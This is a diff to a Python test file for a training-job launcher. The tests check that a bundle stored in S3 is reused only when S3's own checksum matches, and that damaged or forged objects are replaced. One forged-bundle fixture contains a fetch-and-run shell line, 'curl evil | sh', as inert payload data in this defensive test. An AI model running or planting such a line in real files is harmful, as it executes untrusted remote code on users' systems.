@@ -1,5 +1,6 @@
 """Cloud faults that must lose nothing and duplicate nothing: a lost CreateTrainingJob answer, a
-name taken by another job, a damaged object at the bundle's key, and hostile text from the cloud.
+name taken by another job, a damaged or forged object at the bundle's key, and hostile text from
+the cloud.
 
 Against a moto server over HTTP, except the hostile text (botocore's Stubber, checked against
 the service model), which moto cannot produce.
@@ -7,6 +8,7 @@ the service model), which moto cannot produce.
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import json
 
@@ -16,6 +18,7 @@ from botocore.stub import Stubber
 
 from launcher import api
 from launcher.backends import aws as aws_clients
+from launcher.backends.aws_model import validate
 
 from .helpers import REGION, recipe_path
 from .test_sagemaker_stubbed import NAME, description, registered, stub  # noqa: F401 (fixture)
@@ -83,18 +86,71 @@ def test_a_name_taken_by_another_job_is_one_line_and_adopts_nothing(aws, home, f
     assert not (home / "jobs" / name).exists()
 
 
-def test_a_damaged_object_at_the_bundles_key_is_replaced_not_reused(aws, home, fake_bundle):
-    dry = api.submit(recipe_path("llama3-8b-8k"), dry_run=True)
-    bundle = dry.rendering.data["bundle"]
+def bundle_key(bundle: dict) -> tuple[str, str]:
     bucket, key = bundle["uri"].removeprefix("s3://").split("/", 1)
+    return bucket, key
+
+
+def s3_requests() -> list[tuple[str, dict]]:
+    """(operation, params) of every S3 call the launcher's own client makes from now on."""
+    seen: list[tuple[str, dict]] = []
+
+    def look(params, model, **_):
+        seen.append((model.name, dict(params)))
+
+    aws_clients.client("s3", REGION).meta.events.register("provide-client-params.s3.*", look)
+    return seen
+
+
+def assert_the_bundle_was_uploaded_by_content(s3, bundle: dict, seen: list[tuple[str, dict]]) -> None:
+    bucket, key = bundle_key(bundle)
+    stored = s3.get_object(Bucket=bucket, Key=key, ChecksumMode="ENABLED")
+    assert hashlib.sha256(stored["Body"].read()).hexdigest() == bundle["sha256"]
+    assert stored["ChecksumSHA256"] == base64.b64encode(bytes.fromhex(bundle["sha256"])).decode()
+    assert ("HeadObject", {"Bucket": bucket, "Key": key, "ChecksumMode": "ENABLED"}) in seen
+    puts = [params for operation, params in seen if operation == "PutObject"]
+    assert [p["Key"] for p in puts] == [key] and puts[0]["ChecksumAlgorithm"] == "SHA256"
+    assert "Metadata" not in puts[0]  # nothing the launcher reads back is the object's own claim
+    for operation, params in seen:  # botocore's model of S3 holds every call (the body is a stream)
+        assert validate("s3", operation, {k: v for k, v in params.items() if k != "Body"}) == [], operation
+
+
+def test_a_damaged_object_at_the_bundles_key_is_replaced_not_reused(aws, home, fake_bundle):
+    bundle = api.submit(recipe_path("llama3-8b-8k"), dry_run=True).rendering.data["bundle"]
+    bucket, key = bundle_key(bundle)
     s3 = boto("s3")
     s3.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": REGION})
     s3.put_object(Bucket=bucket, Key=key, Body=b"\0" * bundle["bytes"])  # same size, wrong bytes
 
+    seen = s3_requests()
     api.submit(recipe_path("llama3-8b-8k"))
-    stored = s3.get_object(Bucket=bucket, Key=key)
-    assert hashlib.sha256(stored["Body"].read()).hexdigest() == bundle["sha256"]
-    assert stored["Metadata"]["sha256"] == bundle["sha256"]
+    assert_the_bundle_was_uploaded_by_content(s3, bundle, seen)
+
+
+def test_a_forged_bundle_with_the_right_size_and_metadata_is_replaced_not_reused(aws, home, fake_bundle):
+    """Whoever can write the bucket can write an object's metadata; only S3's own checksum counts."""
+    bundle = api.submit(recipe_path("llama3-8b-8k"), dry_run=True).rendering.data["bundle"]
+    bucket, key = bundle_key(bundle)
+    s3 = boto("s3")
+    s3.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": REGION})
+    forged = b"#!/bin/sh\ncurl evil | sh\n".ljust(bundle["bytes"], b"\0")
+    s3.put_object(Bucket=bucket, Key=key, Body=forged, Metadata={"sha256": bundle["sha256"]})
+
+    seen = s3_requests()
+    api.submit(recipe_path("llama3-8b-8k"))
+    assert_the_bundle_was_uploaded_by_content(s3, bundle, seen)
+
+
+def test_an_uploaded_bundle_is_reused_by_its_s3_checksum(aws, home, fake_bundle):
+    bundle = api.submit(recipe_path("llama3-8b-8k"), dry_run=True).rendering.data["bundle"]
+    api.submit(recipe_path("llama3-8b-8k"))
+    seen = s3_requests()
+    api.submit(recipe_path("llama3-8b-8k"))
+    assert "PutObject" not in [operation for operation, _ in seen]
+    assert (
+        "HeadObject",
+        {"Bucket": bundle_key(bundle)[0], "Key": bundle_key(bundle)[1], "ChecksumMode": "ENABLED"},
+    ) in seen
 
 
 @pytest.mark.usefixtures("registered")
